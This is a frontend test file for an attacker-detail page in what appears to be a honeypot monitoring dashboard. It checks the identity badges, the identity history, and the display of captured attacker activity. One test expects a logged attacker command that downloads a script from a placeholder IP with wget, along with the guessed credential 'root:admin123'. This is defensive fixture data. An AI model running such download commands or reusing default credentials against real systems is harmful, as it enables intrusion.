import { screen, within } from "@testing-library/react";
import { http, HttpResponse } from "msw";

import {
  attackerDetail,
  IDENTITY_A,
  IDENTITY_B,
  OBSERVATION_1,
} from "../../../test/fixtures";
import { renderRoutes, signIn } from "../../../test/render";
import { server } from "../../../test/server";
import { AttackerDetailPage } from "./AttackerDetailPage";

const routes = [{ path: "/attackers/:id", element: <AttackerDetailPage /> }];

function serve(detail = attackerDetail()) {
  server.use(
    http.get("*/api/v1/attackers/:uuid", () => HttpResponse.json(detail)),
    http.get("*/api/v1/attackers/:uuid/identity-history", () =>
      HttpResponse.json({
        total: 2,
        limit: 1000,
        offset: 0,
        data: [
          {
            id: 1,
            observation_uuid: OBSERVATION_1,
            identity_uuid: IDENTITY_B,
            previous_identity_uuid: null,
            action: "linked",
            reason: "shared payload SHA-256",
            confidence: 0.9,
            actor: "clusterer",
            created_at: "2026-11-03T00:00:00Z",
          },
          {
            id: 2,
            observation_uuid: OBSERVATION_1,
            identity_uuid: IDENTITY_A,
            previous_identity_uuid: IDENTITY_B,
            action: "merged",
            reason: "component spans two identities",
            confidence: null,
            actor: "clusterer",
            created_at: "2026-11-04T00:00:00Z",
          },
        ],
      }),
    ),
  );
}

describe("AttackerDetailPage", () => {
  beforeEach(() => signIn("viewer"));

  it("links the identity badge to the identity", async () => {
    serve();
    renderRoutes(routes, `/attackers/${OBSERVATION_1}`);
    const badge = await screen.findByRole("link", {
      name: `Identity ${IDENTITY_A}`,
    });
    expect(badge).toHaveTextContent("IDENTITY · 0a1b2c3d");
    expect(badge).toHaveAttribute("href", `/identities/${IDENTITY_A}`);
  });

  it("shows no identity badge for an unresolved IP", async () => {
    serve(attackerDetail({ identity_id: null, canonical_identity_id: null }));
    renderRoutes(routes, `/attackers/${OBSERVATION_1}`);
    await screen.findByRole("heading", { name: /Attacker/ });
    expect(screen.queryByText(/IDENTITY ·/)).not.toBeInTheDocument();
  });

  it("shows commands, credentials and the pasted marker", async () => {
    serve();
    renderRoutes(routes, `/attackers/${OBSERVATION_1}`);
    const commands = await screen.findByLabelText("Commands");
    expect(commands).toHaveTextContent("$ wget http://203.0.113.50/x.sh");
    expect(screen.getByText("root:admin123")).toBeInTheDocument();
    expect(screen.getByText("pasted")).toBeInTheDocument();
  });

  it("lists the identity history oldest first", async () => {
    serve();
    renderRoutes(routes, `/attackers/${OBSERVATION_1}`);
    const history = await screen.findByRole("list", {
      name: "Identity history",
    });
    const items = within(history).getAllByRole("listitem");
    expect(items[0]).toHaveTextContent("linked");
    expect(items[1]).toHaveTextContent("merged from 0b1b2c3d to 0a1b2c3d");
  });
});
